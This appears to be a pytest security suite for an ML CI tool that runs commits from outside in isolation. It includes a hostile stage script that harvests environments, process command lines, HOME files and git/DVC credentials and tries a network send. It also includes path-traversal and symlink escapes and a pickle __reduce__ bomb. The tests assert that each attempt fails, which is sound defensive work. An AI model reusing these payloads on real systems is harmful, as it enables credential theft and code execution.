"""A commit from outside: what is refused, what its stages can reach, and that nothing of it is pushed or believed."""

import hashlib
import json
import pickle
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from furrow.ci.gather import champions_of, side_by_side
from furrow.ci.inspect import bad_listings, inspect_commit
from furrow.ci.judged import gate_check
from furrow.ci.outcome import Outcome
from furrow.ci.report_markdown import markdown
from furrow.ci.report_page import page
from furrow.ci.target import find_target
from furrow.errors import FurrowError
from furrow.ground.isolate import isolated
from furrow.ground.isolate import run as run_held
from furrow.history.named_run import run as load_run
from furrow.training.targets import check_target

from .ciproject import commit, copied, furrow, run

ROOT = Path(__file__).resolve().parents[2]
SECRET = "hunter2-of-the-team"
STEAL = """
import glob, os, pathlib, shutil, socket, subprocess

told = ["ENV " + repr(dict(os.environ))]
for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", os.environ["HOME"] + "/**", "HOMES/**", "REPO/.dvc/**",
                "REPO/.git/config", "STORE/../*.txt"):
    for path in glob.glob(pattern, recursive=True):
        try:
            told.append(path + " " + pathlib.Path(path).read_bytes().decode(errors="replace"))
        except OSError as exc:
            told.append(path + " " + str(exc))
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"stolen")
    told.append("NETWORK reached")
except OSError as exc:
    told.append("NETWORK " + str(exc))
for place in ("REPO/planted", "STORE/planted", "HOMES/planted", "/usr/planted"):
    try:
        pathlib.Path(place).write_text("x")
        told.append("WROTE " + place)
    except OSError:
        pass
subprocess.run(["umount", "HOMES"], capture_output=True)
leaked = "LEAK" if "SECRET_A" + "SECRET_B" in "\\n".join(told) else "CLEAN"
raise SystemExit(leaked + " " + "; ".join(line for line in told if line.startswith(("NETWORK", "WROTE"))))
"""


@pytest.fixture
def project(tmp_path_factory: pytest.TempPathFactory, tmp_path: Path) -> Path:
    """A project, on a branch from outside."""
    folder = copied(tmp_path_factory, tmp_path, settings="branch: main\nreplay: none\n")
    run(folder, "git", "switch", "-q", "-c", "outside")
    return folder


def untrusted(folder: Path, *arguments: str, code: int, **extra: str):
    done = furrow(
        folder, "ci", "--untrusted", "--base", "main", "--json", *arguments, check=False, **extra
    )
    assert done.returncode == code, done.stdout + done.stderr
    return json.loads(done.stdout), done


def texts(value) -> dict[str, str]:
    return {
        one["name"]: f"{one['status']} {one['text']} {' '.join(one['details'])}"
        for one in value["checks"]
    }


@pytest.fixture
def elsewhere() -> Iterator[Path]:
    """A folder that is not hidden from stages for where it lies, as those for temporary files and HOMEs are."""
    room = ROOT / ".furrow"
    room.mkdir(exist_ok=True)
    folder = Path(tempfile.mkdtemp(prefix="hostile-", dir=room))
    yield folder
    shutil.rmtree(folder)


def test_no_secret_is_reachable_from_a_stage(project, tmp_path, elsewhere):
    """A command reads environments, other processes' command lines, HOME, the clone's settings, the network, and writes
    about: it gets nothing."""
    project = Path(shutil.copytree(project, elsewhere / "project", symlinks=True))
    home = Path.home()
    (home / ".aws").mkdir()
    (home / ".aws/credentials").write_text(f"aws_secret_access_key = {SECRET}\n")
    (project / ".dvc/config.local").write_text(f"['remote \"store\"']\n    password = {SECRET}\n")
    run(
        project, "git", "config", "remote.origin.url", f"https://ada:{SECRET}@example.invalid/x.git"
    )
    neighbour = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(300)", f"--password={SECRET}"]
    )
    listener = socket.create_server(("127.0.0.1", 0))
    words = {
        "HOMES": home,
        "REPO": project,
        "STORE": tmp_path / "store",
        "PORT": listener.getsockname()[1],
    }
    steal = STEAL
    for word, value in {**words, "SECRET_A": SECRET[:7], "SECRET_B": SECRET[7:]}.items():
        steal = steal.replace(word, str(value))
    (project / "stages.py").write_text(steal)
    commit(project, "Innocent")
    refs = run(project, "git", "for-each-ref").stdout
    stored = sorted(path.name for path in (tmp_path / "store").rglob("*"))
    value, done = untrusted(project, code=1, AWS_SECRET_ACCESS_KEY=SECRET, FURROW_TOKEN=SECRET)
    listener.close()
    neighbour.kill()
    neighbour.wait()
    assert "CLEAN" in texts(value)["stages"], done.stderr
    assert "LEAK" not in texts(value)["stages"]
    assert "NETWORK reached" not in texts(value)["stages"]
    assert SECRET not in done.stdout + done.stderr
    assert run(project, "git", "for-each-ref").stdout == refs
    assert sorted(path.name for path in (tmp_path / "store").rglob("*")) == stored
    assert not any(
        (place / "planted").exists() for place in (home, project, tmp_path / "store", Path("/usr"))
    )
    assert value["untrusted"]
    assert "no credentials" in value["isolation"]
    for path in (project / ".furrow/ci").rglob("report.*"):
        assert SECRET not in path.read_text()


def test_a_harmless_branch_is_judged(project):
    """Stages that were not run are run, held; nothing is offered, noted or pushed; another remote is not believed."""
    (project / "conf/gbm.yaml").write_text("rate: 0.45\n")
    run(project, "dvc", "config", "remote.store.url", "https://example.invalid/collect")
    commit(project, "A better rate")
    refs = run(project, "git", "for-each-ref").stdout
    value, _ = untrusted(project, code=1)
    said = texts(value)
    assert "the target branch's DVC remote is used" in said["inspect"]
    assert [one["name"] for one in value["stages"]] == ["train@gbm", "evaluate@gbm", "select"]
    assert said["stages"].startswith("failed 3 run")
    assert "dvc repro" in said["stages"]
    assert said["gate"].startswith("passed gbm is the champion")
    assert value["offered"] == ""
    assert value["machine"] == ""
    assert run(project, "git", "for-each-ref").stdout == refs


@pytest.mark.long
def test_a_branch_whose_author_ran_the_stages_is_replayed(project):
    """Held as its stages are; the verdict is in the report, and no note is left of it."""
    (project / "conf/gbm.yaml").write_text("rate: 0.45\n")
    run(project, "dvc", "repro", "-q")
    commit(project, "A better rate")
    refs = run(project, "git", "for-each-ref").stdout
    value, _ = untrusted(project, "--replay", "changed", code=0)
    assert [(one["experiment"], one["status"]) for one in value["replays"]] == [
        ("gbm", "identical")
    ]
    assert value["stages"] == []
    assert run(project, "git", "for-each-ref").stdout == refs


@pytest.mark.long
def test_the_target_is_what_the_remote_says(project, tmp_path):
    """Without --base: the remote's main branch, whatever its name, and the branch that its conf/ci.yaml names; a commit
    that the branch from outside stands on chooses nothing, and where nobody says, nothing is guessed."""
    run(project, "git", "switch", "-q", "main")
    run(project, "git", "branch", "-q", "-m", "trunk")
    (project / "conf/ci.yaml").write_text("replay: none\nworse: warn\n")
    trunk = commit(project, "No branch is named")
    run(tmp_path, "git", "clone", "-q", "--bare", str(project), "bare.git")
    run(tmp_path, "git", "clone", "-q", str(tmp_path / "bare.git"), "clone")
    clone = tmp_path / "clone"
    run(clone, "git", "switch", "-q", "-c", "outside")
    run(clone, "dvc", "config", "remote.store.url", "https://example.invalid/collect")
    (clone / "conf/ci.yaml").write_text("branch: outside\nprepare: touch /tmp/prepared\n")
    commit(clone, "First, settings of my own")
    (clone / "conf/gbm.yaml").write_text("rate: 0.45\n")
    made = commit(clone, "Then a better rate")
    found = find_target(clone, made, untrusted=True)
    assert (found.branch, found.tip, found.base) == ("trunk", trunk, trunk)
    assert (found.settings.worse, found.settings.prepare) == ("warn", "")
    value = json.loads(furrow(clone, "ci", "--untrusted", "--json", check=False).stdout)
    assert value["target"] == "trunk"
    assert "the target branch's DVC remote is used" in texts(value)["inspect"]
    assert texts(value)["stages"].startswith("failed 3 run")

    run(project, "git", "branch", "-q", "next")
    (project / "conf/ci.yaml").write_text("branch: next\n")
    commit(project, "Merge into next")
    run(project, "git", "push", "-q", str(tmp_path / "bare.git"), "trunk", "next")
    run(clone, "git", "fetch", "-q")
    found = find_target(clone, made, untrusted=True)
    assert (found.branch, found.tip, found.settings.worse) == ("next", trunk, "warn")

    run(clone, "git", "remote", "set-head", "origin", "--delete")
    done = furrow(clone, "ci", "--untrusted", check=False)
    assert done.returncode == 1
    assert "--base BRANCH" in done.stderr
    assert "git remote set-head origin --auto" in done.stderr
    done = furrow(clone, "ci", "--untrusted", "--base", "outside", check=False)
    assert "outside is the commit from outside itself" in done.stderr


def change(text: str, old: str, new: str) -> str:
    assert old in text
    return text.replace(old, new)


@pytest.mark.parametrize(
    ("file", "old", "new", "words"),
    [
        ("dvc.yaml", "- build/models/${key}\n        - build/pred", "- ../../evil\n        - build/pred", "../../evil leads out"),
        ("dvc.yaml", "- build/models/${key}\n        - build/pred", "- /etc/evil\n        - build/pred", "/etc/evil leads out"),
        ("dvc.yaml", "- build/models/${key}\n        - build/pred", "- .git/hooks/post-checkout\n        - build/pred", "lies in .git"),
        ("dvc.yaml", "deps: [build/evaluations]", "deps: [s3://bucket/secret]", "s3://bucket/secret leads out"),
        ("dvc.yaml", "  select:\n", "  select:\n    wdir: ../..\n", "wdir ../.. leads out"),
        ("data.dvc", "path: data", "path: ../data", "../data leads out"),
        ("dvc.yaml", "stages:", "stages: [", "not valid YAML"),
    ],
)  # fmt: skip
def test_paths_that_lead_out_are_refused(project, file, old, new, words):
    """Outputs, dependencies and working directories outside the repository, or in .git: nothing is run."""
    (project / file).write_text(change((project / file).read_text(), old, new))
    made = commit(project, "Lead out")
    found = inspect_commit(project, made)
    assert any(words in line and line.startswith(file) for line in found), found


def test_symbolic_links_that_lead_out(project, tmp_path):
    """A link to a folder outside is refused before anything runs; one inside the repository is fine."""
    (project / "inside").symlink_to("conf/gbm.yaml")
    (project / "conf/beside").symlink_to("../runs")
    assert inspect_commit(project, commit(project, "Inside")) == []
    outside = tmp_path / "victim"
    outside.mkdir()
    (project / ".gitignore").write_text("/.furrow/\n/data/\n")
    subprocess.run(["rm", "-rf", str(project / "build")], check=True)
    (project / "build").symlink_to(outside)
    (project / "up").symlink_to("conf/../../store")
    commit(project, "Links")
    value, _ = untrusted(project, code=1)
    said = texts(value)
    assert f"build: a symbolic link to {outside}" in said["inspect"]
    assert "up: a symbolic link to conf/../../store" in said["inspect"]
    assert set(said) == {"inspect"}
    assert list(outside.iterdir()) == []


def test_an_archive_whose_names_lead_out(project, tmp_path):
    """A folder in the remote that lists ../../evil: it is fetched, found out, and not checked out."""
    content = b"evil"
    listing = json.dumps(
        [{"md5": hashlib.md5(content).hexdigest(), "relpath": "../../evil"}]
    ).encode()
    for data, suffix in ((content, ""), (listing, ".dir")):
        md5 = hashlib.md5(data).hexdigest() + suffix
        path = tmp_path / "store/files/md5" / md5[:2] / md5[2:]
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    pointer = f"outs:\n- md5: {md5}\n  size: 4\n  nfiles: 1\n  hash: md5\n  path: data\n"
    (project / "data.dvc").write_text(pointer)
    lock = (project / "dvc.yaml").read_text().replace("data/flights.csv", "data")
    (project / "dvc.yaml").write_text(lock)
    commit(project, "Take this data")
    value, done = untrusted(project, code=1)
    assert value["checks"][-1]["status"] != "passed" or "leads out" in done.stdout
    assert "leads out" in texts(value)["stages"]
    assert not (tmp_path / "evil").exists()
    assert not list(tmp_path.rglob("evil"))
    cache = tmp_path / "cache/files/md5/ab"
    cache.mkdir(parents=True)
    (cache / "cd.dir").write_text('[{"md5": "x", "relpath": "a/../../b"}]')
    (cache / "ef.dir").write_text('[{"md5": "x", "relpath": "a/b"}]')
    (cache / "gh.dir").write_text("[[")
    assert [line.split(": ")[0] for line in bad_listings(tmp_path / "cache")] == [
        "abcd.dir",
        "abgh.dir",
    ]


@pytest.mark.parametrize(
    "target", ["os.system", "joblib.load", "subprocess.Popen", "sklearn.utils.os.system"]
)
def test_targets_that_are_no_estimators(target):
    """`_target_` is checked against the allow-list before anything is imported or called."""
    with pytest.raises(FurrowError, match="not allowed"):
        check_target({"_target_": target}, where="conf/model/evil.yaml")


class Bomb:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (Path.touch, (Path(self.path),))


def test_a_pickle_in_place_of_a_model(project, tmp_path):
    """A model file of another sha256 than the record's is not opened."""
    path = project / "build/models/gbm/model.joblib"
    path.chmod(0o644)
    path.unlink()
    path.write_bytes(pickle.dumps(Bomb(str(tmp_path / "exploded"))))
    subprocess.run(["rm", "-rf", str(project / ".dvc/cache")], check=True)
    with pytest.raises(FurrowError):
        load_run("gbm", repo=project).model()
    assert not (tmp_path / "exploded").exists()


def test_the_environment_alone(tmp_path, monkeypatch):
    """Of the environment, what a held command gets are a few names of ours, and HOME is a folder of its own."""
    monkeypatch.setenv("MY_TOKEN", SECRET)
    held = isolated(tmp_path)
    assert SECRET not in str(held.environment)
    assert held.environment["HOME"] == str(tmp_path / "home")
    assert SECRET not in run_held(["env"], tmp_path, held)


@pytest.mark.parametrize(
    "value",
    [
        {"experiment": ["gbm"]},
        {"experiment": "gbm", "metrics": [1], "gate": 3},
        {
            "experiment": "gbm",
            "metrics": {"log_loss": "low"},
            "gate": {"select": []},
            "verdicts": {"gbm": 1},
        },
        [1],
    ],
)
def test_results_of_another_shape(project, value):
    """champion.json, slices and curves that hold anything: a report all the same, and no crash."""
    (project / "runs/champion.json").write_text(json.dumps(value))
    (project / "runs/gbm/slices.json").write_text(
        '[{"slice": 1, "rows": "many", "log_loss": "x"}, 3]'
    )
    (project / "runs/gbm/intervals.json").write_text('{"log_loss": {"low": "a"}}')
    made = commit(project, "Shapes")
    champions = champions_of((project / "runs/champion.json").read_bytes())
    runs = tuple(side_by_side(project, f"{made}~1", made, champions))
    check = gate_check(project, f"{made}~1", made, worse="fail")
    text = markdown(Outcome(made, checks=(check,), runs=runs))
    assert "gbm" in text
    assert "<h1" in page(Outcome(made, checks=(check,), runs=runs))
